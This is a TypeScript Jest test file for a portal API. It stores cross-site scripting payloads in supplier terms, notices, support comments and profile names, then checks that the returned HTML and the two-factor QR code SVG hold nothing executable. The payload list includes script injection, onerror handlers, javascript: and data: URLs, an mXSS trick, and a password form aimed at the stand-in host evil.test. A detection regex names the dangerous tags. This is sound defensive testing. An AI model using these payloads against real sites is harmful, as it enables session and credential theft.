import { describe, expect, it } from '@jest/globals';
import { contract } from '@portal/api-client';
import { eq } from '../db/drizzle.ts';
import { serviceNotices } from '../documentation/tables.ts';
import { loadSupplierTerms, saveTerms } from '../quotes/terms/service.ts';
import { openTestApi } from '../testing/open-test-api.ts';

/** F29: stored HTML, and the QR code's SVG. What the server hands out as HTML runs nothing. */

const ATTACKS = [
  '<script>steal()</script>',
  '<img src=x onerror="steal()">',
  '<a href="javascript:steal()">Read</a>',
  '<a href="data:text/html,<script>steal()</script>">Read</a>',
  '<svg><script>steal()</script></svg>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<form action="https://evil.test"><input name="password"></form>',
  '<p style="background:url(https://evil.test/steal)">Hello</p>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=steal()></style></mglyph></math>',
  '<object data="steal.swf"></object><embed src="steal.swf">',
  '<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test">',
];
/** What none of them may come back with. */
const RUNS =
  /<script|<iframe|<svg|<math|<object|<embed|<form|<input|<base|<meta|<style|\son\w+\s*=|javascript:|data:|style=/i;

const { api, user } = await openTestApi({ user: 'role1@acme.test' });

describe.each(ATTACKS)('stored %s', (attack) => {
  it('is gone from terms', async () => {
    const { items } = await user.call(contract.quotes.single.list, {
      status: ['data_added'],
      perPage: 1,
    });
    const { reference = '', supplierKey = '' } = items[0] ?? {};
    const terms = await loadSupplierTerms(api.provider.db, supplierKey);
    await saveTerms(api.provider.db, { ...terms, content: `<p>First</p>${attack}<p>Last</p>` });
    const [shown] = await user.call(contract.quotes.single.listTerms, { reference });
    expect(shown?.content).toContain('<p>First</p>');
    expect(shown?.content).toContain('<p>Last</p>');
    expect(shown?.content).not.toMatch(RUNS);
  });

  it('is gone from notices', async () => {
    const { items } = await user.call(contract.documentation.listNotifications, { perPage: 1 });
    const id = items[0]?.id ?? 0;
    await api.provider.db
      .update(serviceNotices)
      .set({ content: `<p>First</p>${attack}` })
      .where(eq(serviceNotices.id, id));
    const notice = await user.call(contract.documentation.getNotification, { id });
    expect(notice.content).toContain('<p>First</p>');
    expect(notice.content).not.toMatch(RUNS);
  });

  it('is stored as typed in a comment and sent as JSON that no browser renders', async () => {
    const { items } = await user.call(contract.support.listCases, { status: ['New'], perPage: 1 });
    const id = items[0]?.id ?? 0;
    const { comment } = await user.call(contract.support.createComment, { id, comment: attack });
    expect(comment).toBe(attack);
    const response = await user.fetch(`/api/v1/support/cases/${id}/comments`);
    expect(response.headers.get('content-type')).toBe('application/json');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('the QR code', () => {
  it('is a picture of paths alone', async () => {
    const { id } = await user.call(contract.auth.getMe, {});
    const attack = '"><script>steal()</script>';
    await user.call(contract.auth.updateProfile, { firstName: attack, lastName: attack, telephone: null });
    expect(id).toBeGreaterThan(0);
    await user.call(contract.twoFactor.enable, {});
    const { svg } = await user.call(contract.twoFactor.getQrCode, {});
    expect(svg).toMatch(/^(?:<\?xml[^>]*\?>)?\s*<svg[\s>]/);
    const elements = [...svg.matchAll(/<\/?([a-z][\w:-]*)/gi)].map(([, name]) => name?.toLowerCase());
    expect(elements.filter((name) => !['svg', 'path', 'rect', 'g', 'title'].includes(name ?? ''))).toEqual(
      [],
    );
    expect(svg).not.toMatch(/\son\w+\s*=|href|url\(|<!ENTITY|steal/i);
  });
});
